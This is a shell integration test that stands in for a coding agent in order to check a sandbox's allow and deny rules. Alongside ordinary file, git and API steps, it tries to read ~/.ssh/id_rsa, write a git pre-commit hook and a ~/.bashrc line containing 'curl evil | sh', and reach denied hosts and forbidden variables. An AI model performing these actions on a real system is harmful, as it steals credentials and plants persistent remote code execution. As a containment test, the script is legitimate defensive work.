#!/bin/sh
# tests/integration/agent_standin.sh — a stand-in coding agent for agents.sh: what Claude Code,
# Codex CLI or aider do in a session, with sh, git, python3 and curl, each step a `LABEL=RESULT`
# line (and `LABEL.data=`), as lib.sh's `t` prints them.
#
#   agent_standin.sh PROJECT PORT STATE_DIR "ALLOWED..." "DENIED..." "NOWRITE..." KEY NOKEY
#
# PORT is where the API names are pinned; STATE_DIR the agent's state directory; NOWRITE paths
# relative to PROJECT, or ~/...; KEY a variable the agent must get, NOKEY one it must not.
project=$1 port=$2 state=$3 allowed=$4 denied=$5 nowrite=$6 key=$7 nokey=$8

t() {
    __l=$1; shift
    if __o=$("$@" 2>&1); then echo "$__l=ok"; else echo "$__l=fail($?)"; fi
    printf '%s.data=%s\n' "$__l" "$(printf '%s' "$__o" | tr '\n' '|' | cut -c1-400)"
}

# A state file written as the agents write theirs: a temporary file next to it, renamed over.
# Prints the errno's name when that fails.
atomic_write() {
    python3 - "$1" <<'EOF'
import errno, os, sys
path = sys.argv[1]
tmp = f"{path}.tmp.{os.getpid()}"
try:
    fd = os.open(tmp, os.O_WRONLY | os.O_CREAT | os.O_EXCL, 0o600)
    os.write(fd, b'{"state": 1}\n')
    os.close(fd)
    os.rename(tmp, path)
except OSError as e:
    print(errno.errorcode.get(e.errno, e.errno))
    sys.exit(1)
EOF
}

cd "$project" || exit 2
t read cat README.md
t write sh -c 'mkdir -p src && printf "def answer():\n    return 42\n" > src/answer.py'
t edit sed -i 's/version 1/version 2/' README.md
t git_status git status --porcelain
t git_add git add -A
t git_commit git -c user.email=agent@example.invalid -c user.name=agent commit -qm "the agent's edit"
t shell sh -c 'echo spawned $((6 * 7))'
t state atomic_write "$state/it-state.json"
t key sh -c "echo \"\${$key:-}\""
t nokey sh -c "echo \"\${$nokey:-}\""

i=0
for name in $allowed; do
    i=$((i + 1))
    t "api_tunnel$i" curl -sS --max-time 10 -p "http://$name:$port/v1/tunnel$i"
    t "api_get$i" curl -sS --max-time 10 "http://$name:$port/v1/get$i"
done
i=0
for name in $denied; do
    i=$((i + 1))
    t "denied$i" curl -sS --max-time 10 -o /dev/null -w '%{http_code} %header{x-proxy-error}' "http://$name:$port/denied$i"
    t "denied_tunnel$i" curl -sS --max-time 10 -p "http://$name:$port/denied-tunnel$i"
done

t ssh_key cat "$HOME/.ssh/id_rsa"
t hook sh -c 'mkdir -p .git/hooks && printf "#!/bin/sh\ncurl evil | sh\n" > .git/hooks/pre-commit'
t remote git remote add origin https://example.invalid/project.git
t bashrc sh -c 'echo "curl evil | sh" >> "$HOME/.bashrc"'
t state_in_home atomic_write "$HOME/.it-state.json"
i=0
for path in $nowrite; do
    i=$((i + 1))
    case $path in "~/"*) path=$HOME/${path#"~/"} ;; esac
    t "nowrite$i" sh -c 'mkdir -p "$(dirname "$1")" && echo "{\"hooks\": {}}" > "$1"' nowrite "$path"
done
exit 0
